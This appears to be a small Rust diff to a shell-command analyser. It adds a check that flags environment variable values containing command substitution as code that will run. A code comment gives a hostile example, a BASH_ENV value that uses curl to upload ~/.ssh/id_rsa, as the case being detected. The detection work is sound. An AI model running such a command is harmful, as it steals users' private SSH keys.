@@ -104,6 +104,13 @@ impl Walker {
                 self.with_step(&format!("env.{name}"), |w| {
                     w.nested_argv(vec![source, value.clone()], value.span, false, None)
                 });
+                // The shell expands the value before reading the file: a command substitution
+                // in it runs (`BASH_ENV='$(curl … -F f=@~/.ssh/id_rsa)' bash -c :`).
+                if value.text.contains("$(") || value.text.contains('`') {
+                    self.with_step(&format!("env.{name}"), |w| {
+                        w.nested_code(value, Origin::Sink)
+                    });
+                }
                 continue;
             }
             if let Some(code) = super::sinks::table().env_code(name, value) {
